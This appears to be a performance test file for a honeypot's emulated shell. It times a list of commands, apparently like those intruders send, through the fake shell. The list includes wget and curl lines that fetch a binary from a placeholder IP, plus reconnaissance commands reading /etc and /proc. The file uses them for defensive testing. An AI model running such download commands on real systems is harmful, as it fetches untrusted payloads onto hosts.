/** Each command answers in well under 10 ms, the heavy ones included; building a persona's tree is cheap. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createBaseFs } from '../../../src/honeynet/shell/index.js';
import { debianPersona } from '../fixtures/shell-personas.js';
import { shell } from './session-helper.js';

const HEAVY = [
  'ps aux',
  'ps -ef',
  'top -bn1',
  'ls -laR /etc',
  'ls -la /usr/bin',
  'cat /proc/cpuinfo',
  'cat /proc/meminfo',
  'grep -r root /etc',
  'wget http://198.51.100.7/x86',
  'curl -s http://198.51.100.7/a | wc -c',
  'find_me_not',
  'echo $(ls /etc | wc -l) /usr/bin/* > /dev/null',
  'free -h; df -h; w; uptime; id; uname -a',
];

/**
 * Median of several runs, so one GC pause does not fail the test. Each run is measured in CPU time of this
 * process (user + system), not wall time: CI shares two cores with other suites, and waiting for a core is not
 * the shell's cost.
 */
function median(samples: number[]): number {
  return [...samples].sort((a, b) => a - b)[Math.floor(samples.length / 2)]!;
}

describe('timing', () => {
  for (const line of HEAVY) {
    it(`${line} < 10 ms`, () => {
      const s = shell();
      s.run(line);
      const samples: number[] = [];
      for (let i = 0; i < 7; i++) {
        const t = process.cpuUsage();
        s.run(line);
        const d = process.cpuUsage(t);
        samples.push((d.user + d.system) / 1000);
      }
      assert.ok(median(samples) < 10, `${line}: ${median(samples).toFixed(2)} ms`);
    });
  }

  it('building the base tree takes a few milliseconds', () => {
    createBaseFs(debianPersona);
    const samples: number[] = [];
    for (let i = 0; i < 5; i++) {
      const t = process.cpuUsage();
      createBaseFs({ ...debianPersona, machineId: String(i).padStart(32, 'f') });
      const d = process.cpuUsage(t);
      samples.push((d.user + d.system) / 1000);
    }
    assert.ok(median(samples) < 10, `${median(samples).toFixed(2)} ms`);
  });

  it('a session starts in well under a millisecond budget of 5 ms', () => {
    shell();
    const t = process.cpuUsage();
    for (let i = 0; i < 20; i++) shell();
    const d = process.cpuUsage(t);
    assert.ok((d.user + d.system) / 1000 / 20 < 5);
  });
});
